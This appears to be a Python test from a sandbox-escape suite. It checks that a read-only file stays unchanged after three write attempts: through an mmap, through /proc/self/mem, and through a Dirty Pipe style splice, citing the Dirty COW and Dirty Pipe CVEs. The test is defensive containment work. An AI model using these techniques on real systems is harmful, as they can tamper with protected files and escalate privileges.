"""Change a read-only file through a mapping of it: shared, private, and by /proc/self/mem.

Wall: read-only mounts
Meets: unchanged
Scene: note_of_the_callers
Control: scene
Reference: CVE-2016-5195 (Dirty COW), CVE-2022-0847 (Dirty Pipe)
"""

import mmap
import os
import sys

from tests.escape.inside import contained, got, outcome, read

PATH = sys.argv[1]
before = read(PATH)


def by_opening() -> None:
    with open(PATH, "r+b") as file, mmap.mmap(file.fileno(), 0) as memory:
        memory[0:1] = b"X"


def by_mem() -> None:
    with open(PATH, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as memory:
        address = next(
            int(line.split(b"-")[0], 16) for line in read("/proc/self/maps").splitlines() if PATH.encode() in line
        )
        with open("/proc/self/mem", "r+b", buffering=0) as own:
            own.seek(address)
            own.write(b"X")
        assert memory


def by_pipe() -> None:
    """The page is the file's own, spliced into a pipe whose buffers were once all full, and may be merged with."""
    reading, writing = os.pipe()
    os.write(writing, b"x" * 65536)
    os.read(reading, 65536)
    with open(PATH, "rb") as file:
        os.splice(file.fileno(), writing, 1, offset_src=0)
    os.write(writing, b"X")


for attempt in (by_opening, by_mem, by_pipe):
    outcome(attempt)
    if read(PATH) != before:
        got(attempt.__name__)
contained("unchanged")
